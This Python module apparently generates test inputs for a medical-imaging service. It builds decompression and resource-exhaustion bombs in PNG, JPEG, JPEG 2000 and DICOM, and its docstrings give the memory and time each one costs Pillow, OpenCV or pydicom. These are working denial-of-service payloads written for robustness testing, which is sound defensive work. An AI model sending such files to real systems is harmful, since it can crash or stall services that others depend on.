"""Makes hostile files: bytes that cost a careless decoder gigabytes, minutes or its process. Small in git."""

import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import numpy as np
from pydicom import Dataset, dcmwrite
from pydicom.dataset import FileMetaDataset
from pydicom.encaps import encapsulate
from pydicom.uid import JPEG2000, UID, DeflatedExplicitVRLittleEndian, ExplicitVRLittleEndian, RLELossless

CR_STORAGE = UID("1.2.840.10008.5.1.4.1.1.1")
PNG, JPEG, DICOM = "image/png", "image/jpeg", "application/dicom"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """One chunk with its length and CRC."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(columns: int, rows: int, raw: bytes, *, depth: int = 8, colour: int = 0, extra: bytes = b"") -> bytes:
    """A PNG that claims this size, whatever `raw` (filter byte + row, row by row) really holds."""
    header = struct.pack(">IIBBBBB", columns, rows, depth, colour, 0, 0, 0)
    body = png_chunk(b"IHDR", header) + extra + png_chunk(b"IDAT", zlib.compress(raw, 9))
    return b"\x89PNG\r\n\x1a\n" + body + png_chunk(b"IEND", b"")


def png_of(image: np.ndarray, **keywords: Any) -> bytes:
    """A real PNG of an array uint8 or uint16 `[rows, columns]` or `[rows, columns, channels]`."""
    rows, columns = image.shape[:2]
    lines = image.astype(image.dtype.newbyteorder(">")).reshape(rows, -1)
    raw = b"".join(b"\0" + line.tobytes() for line in lines)
    return png(columns, rows, raw, depth=image.dtype.itemsize * 8, **keywords)


def bomb_png(columns: int = 13000, rows: int = 13000) -> bytes:
    """169 megapixels of black in 160 kB; OpenCV and Pillow both take it."""
    return png(columns, rows, bytes((columns + 1) * rows))


def jpeg_claiming(columns: int, rows: int) -> bytes:
    """A JPEG that has nothing but a header."""
    frame = struct.pack(">BHHBBBB", 8, rows, columns, 1, 1, 0x11, 0)
    return b"\xff\xd8\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame + b"\xff\xd9"


def j2k_tiles(columns: int = 65535, rows: int = 1, tile: int = 1) -> bytes:
    """A JPEG 2000 codestream of about 90 bytes with columns × rows / tile² tiles: 0.9 GB in OpenCV and Pillow."""
    siz = struct.pack(">H8IHBBB", 0, columns, rows, 0, 0, tile, tile, 0, 0, 1, 7, 1, 1)
    cod = struct.pack(">BBHBBBBBB", 0, 0, 1, 0, 0, 4, 4, 0, 1)
    qcd = struct.pack(">BB", 0x40, 0x40)
    segments = b"".join(
        marker + struct.pack(">H", len(data) + 2) + data
        for marker, data in ((b"\xff\x51", siz), (b"\xff\x52", cod), (b"\xff\x5c", qcd))
    )
    sot = b"\xff\x90" + struct.pack(">HHIBB", 10, 0, 0, 0, 1)
    return b"\xff\x4f" + segments + sot + b"\xff\x93\xff\xd9"


def dicom(pixel_data: bytes | None = None, syntax: UID = ExplicitVRLittleEndian, **elements: Any) -> bytes:
    """A DICOM file: a 64×64 8-bit CR image, except for the elements given (None leaves one out)."""
    ds = Dataset()
    defaults: dict[str, Any] = {
        "SOPClassUID": CR_STORAGE,
        "SOPInstanceUID": "1.2.3.4.3",
        "StudyInstanceUID": "1.2.3.4.1",
        "SeriesInstanceUID": "1.2.3.4.2",
        "Modality": "CR",
        "PatientName": "SYNTHETIC^CHEST",
        "PatientID": "SYNTHETIC-1",
        "SamplesPerPixel": 1,
        "PhotometricInterpretation": "MONOCHROME2",
        "Rows": 64,
        "Columns": 64,
        "BitsAllocated": 8,
        "BitsStored": 8,
        "HighBit": 7,
        "PixelRepresentation": 0,
    }
    for keyword, value in {**defaults, **elements}.items():
        if value is not None:
            setattr(ds, keyword, value)
    ds.PixelData = bytes(range(64)) * 64 if pixel_data is None else pixel_data
    ds["PixelData"].VR = "OB" if syntax.is_encapsulated or ds.BitsAllocated == 8 else "OW"
    ds.file_meta = FileMetaDataset()
    ds.file_meta.TransferSyntaxUID = syntax
    ds.file_meta.MediaStorageSOPClassUID = CR_STORAGE
    ds.file_meta.MediaStorageSOPInstanceUID = UID("1.2.3.4.3")
    file = BytesIO()
    dcmwrite(file, ds, enforce_file_format=True)
    return file.getvalue()


def rle_frame(run: int = 1) -> bytes:
    """One RLE segment of `run` × 128 zero bytes (PS3.5 annex G)."""
    return struct.pack("<16I", 1, 64, *[0] * 14) + b"\x81\x00" * run


def bomb_rle(edge: int = 65535) -> bytes:
    """Under 1 kB, claims edge × edge pixels: 8.2 GB and half a minute in pydicom 3.0.2."""
    return dicom(encapsulate([rle_frame()]), RLELossless, Rows=edge, Columns=edge)


def bomb_deflated(size: int = 1 << 30) -> bytes:
    """About 1 MB that inflates to `size` bytes of pixel data, which pydicom does before it reads anything."""
    plain = dicom(b"", DeflatedExplicitVRLittleEndian)
    start = 132 + 12 + struct.unpack_from("<I", plain, 140)[0]
    head = zlib.decompress(plain[start:], -15)[:-12]  # without the empty PixelData element
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    element = squeeze.compress(head + struct.pack("<HH2sHI", 0x7FE0, 0x0010, b"OB", 0, size))
    element += squeeze.flush(zlib.Z_FULL_FLUSH)  # so that every further megabyte looks the same
    megabyte = squeeze.compress(bytes(1 << 20)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    return plain[:start] + element + megabyte * (size >> 20) + squeeze.flush()


def bomb_nested(depth: int = 6000) -> bytes:
    """About 97 kB of sequences within sequences, of undefined length: RecursionError in pydicom."""
    opened = struct.pack("<HH2sHI", 0x0008, 0x1115, b"SQ", 0, 0xFFFFFFFF) + struct.pack(
        "<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF
    )
    plain = dicom()
    start = 132 + 12 + struct.unpack_from("<I", plain, 140)[0]
    return plain[:start] + opened * depth + plain[start:]


def bomb_j2k_dicom() -> bytes:
    """The JPEG 2000 tile bomb in a DICOM file that agrees with its size."""
    return dicom(encapsulate([j2k_tiles(4096, 4096, 16)]), JPEG2000, Rows=4096, Columns=4096)


BOMBS: dict[str, tuple[Callable[[], bytes], str]] = {
    "RLE DICOM of 65535×65535": (bomb_rle, DICOM),
    "RLE DICOM of 8000×8000": (lambda: bomb_rle(8000), DICOM),
    "deflated DICOM of 1 GB": (bomb_deflated, DICOM),
    "JPEG 2000 of 65,535 tiles as PNG": (j2k_tiles, PNG),
    "JPEG 2000 of 65,535 tiles in DICOM": (bomb_j2k_dicom, DICOM),
    "JPEG 2000 of another size in DICOM": (
        lambda: dicom(encapsulate([j2k_tiles(60000, 60000, 60000)]), JPEG2000),
        DICOM,
    ),
    "PNG of 169 megapixels": (bomb_png, PNG),
    "PNG of 2^31 × 2^31": (lambda: png(2**31 - 1, 2**31 - 1, b"\0"), PNG),
    "PNG of 64 megapixels without data": (lambda: png(8000, 8000, b"\0"), PNG),
    "JPEG of 65500×65500": (lambda: jpeg_claiming(65500, 65500), JPEG),
    "JPEG of many scans": (
        lambda: jpeg_claiming(4000, 4000)[:-2] + b"\xff\xda\0\x08\1\1\0\0\x3f\0\0" * 5000,
        JPEG,
    ),
    "nested sequences": (bomb_nested, DICOM),
}
"""Every bomb by name: what makes it, and the media type it comes as."""
